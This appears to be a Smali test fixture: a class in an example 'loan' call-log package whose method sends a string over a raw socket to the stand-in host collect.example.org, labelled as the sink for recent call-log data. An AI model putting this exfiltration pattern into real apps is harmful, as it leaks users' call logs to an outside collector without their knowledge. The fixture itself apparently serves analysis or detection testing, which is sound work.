# Sends text through a raw socket: sink of recent().
.class final Lorg/example/loan/calllog/LineSender;
.super Ljava/lang/Object;
.source "LineSender.java"


.method static send(Ljava/lang/String;)V
    .registers 4
    .annotation system Ldalvik/annotation/Throws;
        value = {
            Ljava/io/IOException;
        }
    .end annotation

    .line 12
    new-instance v0, Ljava/net/Socket;

    const-string v1, "collect.example.org"

    const/16 v2, 0x1e6c

    invoke-direct {v0, v1, v2}, Ljava/net/Socket;-><init>(Ljava/lang/String;I)V

    .line 14
    :try_start_9
    invoke-virtual {v0}, Ljava/net/Socket;->getOutputStream()Ljava/io/OutputStream;

    move-result-object v1

    const-string v2, "UTF-8"

    .line 15
    invoke-virtual {p0, v2}, Ljava/lang/String;->getBytes(Ljava/lang/String;)[B

    move-result-object p0

    invoke-virtual {v1, p0}, Ljava/io/OutputStream;->write([B)V

    .line 16
    invoke-virtual {v1}, Ljava/io/OutputStream;->flush()V
    :try_end_19
    .catchall {:try_start_9 .. :try_end_19} :catchall_1d

    .line 18
    invoke-virtual {v0}, Ljava/net/Socket;->close()V

    return-void

    :catchall_1d
    move-exception p0

    invoke-virtual {v0}, Ljava/net/Socket;->close()V

    .line 19
    throw p0
.end method
